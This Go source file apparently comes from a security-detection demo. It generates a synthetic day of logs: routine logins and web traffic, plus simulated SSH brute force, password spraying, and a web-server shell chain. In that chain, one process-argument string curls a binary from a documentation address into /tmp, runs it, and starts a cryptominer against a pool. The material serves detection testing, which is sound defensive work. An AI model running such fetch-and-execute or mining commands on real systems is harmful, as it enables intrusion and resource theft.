package demo

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"

	"nightjar/content"
)

// Tag is on every event, and so on every signal of theirs.
const Tag = "env:demo"

// Rules are the bundled rules, as files of content.Files, that find the attacks.
var Rules = []string{
	"rules/ssh-brute-force.json", "rules/ssh-break-in.json", "rules/password-spraying.json",
	"rules/agent-shell-from-web-server.json", "rules/agent-cryptominer.json",
}

// span is how far back the day goes: less than what an engine evaluates late events of.
const span = 23 * time.Hour

// Day is a day of logs up to a moment, as the API takes them, in the order of time.
func Day(now time.Time) ([]json.RawMessage, error) {
	d := &day{end: now.Truncate(time.Second), random: rand.New(rand.NewPCG(24, 1))}
	d.ordinary()
	d.guessing(d.end.Add(-9 * time.Hour))
	d.spraying(d.end.Add(-5 * time.Hour))
	d.webShell(d.end.Add(-2 * time.Hour))
	if err := d.sample(); err != nil {
		return nil, err
	}
	slices.SortStableFunc(d.logs, func(a, b entry) int { return a.at.Compare(b.at) })
	out := make([]json.RawMessage, len(d.logs))
	for i, e := range d.logs {
		e.log["timestamp"], e.log["ddtags"] = e.at.UnixMilli(), Tag
		text, err := json.Marshal(e.log)
		if err != nil {
			return nil, fmt.Errorf("encode a log of the demo: %w", err)
		}
		out[i] = text
	}
	return out, nil
}

type log = map[string]any

type entry struct {
	at  time.Time
	log log
}

// day is a day under construction.
type day struct {
	end    time.Time
	random *rand.Rand
	logs   []entry
}

func (d *day) add(at time.Time, l log) { d.logs = append(d.logs, entry{at, l}) }

func (d *day) pick(list []string) string { return list[d.random.IntN(len(list))] }

var (
	people = []string{"ada", "grace", "linus", "edsger", "barbara", "donald", "radia", "ken"}
	hosts  = []string{"web-1", "web-2", "db-1", "bastion"}
	paths  = []string{"/", "/login", "/cart", "/search?q=lamp", "/static/app.css", "/api/orders"}
)

// ordinary is what happens every day: people sign in, pages are read.
func (d *day) ordinary() {
	for at := d.end.Add(-span); at.Before(d.end); at = at.Add(time.Duration(20+d.random.IntN(60)) * time.Second) {
		who := d.random.IntN(len(people))
		address := fmt.Sprintf("192.0.2.%d", 10+who)
		switch kind := d.random.IntN(10); {
		case kind == 0:
			d.ssh(at, d.pick(hosts), fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:demo", people[who], address, 30000+d.random.IntN(30000)))
		case kind == 1:
			d.portal(at, people[who], address, "success")
		case kind == 2 && d.random.IntN(4) == 0:
			d.portal(at, people[who], address, "failure")
		default:
			status := []int{200, 200, 200, 200, 304, 404}[d.random.IntN(6)]
			d.add(at, log{
				"ddsource": "nginx", "service": "shop", "host": hosts[d.random.IntN(2)],
				"message": fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" %d %d "-" "Mozilla/5.0 (demo)"`, address, at.UTC().Format("02/Jan/2006:15:04:05 +0000"), d.pick(paths), status, 200+d.random.IntN(9000)),
			})
		}
	}
}

func (d *day) ssh(at time.Time, host, message string) {
	d.add(at, log{"ddsource": "sshd", "service": "sshd", "host": host, "message": fmt.Sprintf("%s %s sshd[%d]: %s", at.UTC().Format(time.Stamp), host, 2000+d.random.IntN(3000), message)})
}

func (d *day) portal(at time.Time, user, address, outcome string) {
	d.add(at, log{
		"ddsource": "portal", "service": "portal", "host": "web-2", "message": "sign-in of " + user + ": " + outcome,
		"evt": log{"name": "login", "category": "authentication", "outcome": outcome}, "usr": log{"id": user}, "network": log{"client": log{"ip": address}},
	})
}

// guessing is an address that guesses passwords of SSH, and one fits.
func (d *day) guessing(at time.Time) {
	const address = "203.0.113.66"
	for i := range 40 {
		user := []string{"root", "admin", "oracle", "backup"}[i%4]
		d.ssh(at.Add(time.Duration(i)*4*time.Second), "bastion", fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, address, 40000+i))
	}
	d.ssh(at.Add(170*time.Second), "bastion", "Accepted password for backup from "+address+" port 40100 ssh2")
}

// spraying is an address that tries a few passwords on many people.
func (d *day) spraying(at time.Time) {
	for i := range 30 {
		d.portal(at.Add(time.Duration(i)*12*time.Second), fmt.Sprintf("employee-%02d", i), "198.51.100.23", "failure")
	}
}

// webShell is a web server that starts a shell, which fetches a miner and starts it.
func (d *day) webShell(at time.Time) {
	type process struct {
		pid              int
		comm, path, args string
	}
	chain := []process{
		{910, "php-fpm8.2", "/usr/sbin/php-fpm8.2", ""},
		{4711, "sh", "/usr/bin/dash", "-c id; curl -s http://203.0.113.80/k -o /tmp/kworker; /tmp/kworker"},
		{4713, "curl", "/usr/bin/curl", "-s http://203.0.113.80/k -o /tmp/kworker"},
		{4714, "kworker", "/tmp/kworker", "-o stratum+tcp://pool.invalid:3333 --donate-level=1"},
	}
	event := func(at time.Time, rule string, p process, ancestors ...process) {
		var pids []int
		var comms, files []string
		for _, a := range slices.Backward(ancestors) {
			pids, comms, files = append(pids, a.pid), append(comms, a.comm), append(files, a.path)
		}
		d.add(at, log{
			"ddsource": "runtime-security-agent", "service": "shop", "host": "web-1", "message": p.comm + " was started", "evt": log{"name": "exec"},
			"agent": log{"rule_id": rule},
			"process": log{
				"pid": p.pid, "comm": p.comm, "args": p.args, "user": "www-data", "file": log{"path": p.path},
				"ancestors": log{"pid": pids, "comm": comms, "file": log{"path": files}},
			},
		})
	}
	event(at, "php_started_shell", chain[1], process{1, "systemd", "/usr/lib/systemd/systemd", ""}, chain[0])
	event(at.Add(3*time.Second), "web_server_started_shell", chain[1], process{1, "systemd", "/usr/lib/systemd/systemd", ""}, chain[0])
	event(at.Add(9*time.Second), "miner_pool_in_arguments", chain[3], process{1, "systemd", "/usr/lib/systemd/systemd", ""}, chain[0], chain[1])
}

// sample is the bundled log, as if it had happened in the last minutes: each line begins
// with its time in seconds before the end.
func (d *day) sample() error {
	text, err := content.Files.ReadFile("samples/auth.log")
	if err != nil {
		return fmt.Errorf("read the sample log: %w", err)
	}
	for line := range strings.Lines(string(text)) {
		if strings.HasPrefix(line, "#") {
			continue
		}
		offset, rest, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		seconds, err := strconv.Atoi(offset)
		if err != nil {
			return fmt.Errorf("sample log: %w", err)
		}
		at := d.end.Add(time.Duration(seconds) * time.Second)
		d.add(at, log{"ddsource": "sshd", "service": "sshd", "message": at.UTC().Format(time.Stamp) + " " + rest})
	}
	return nil
}
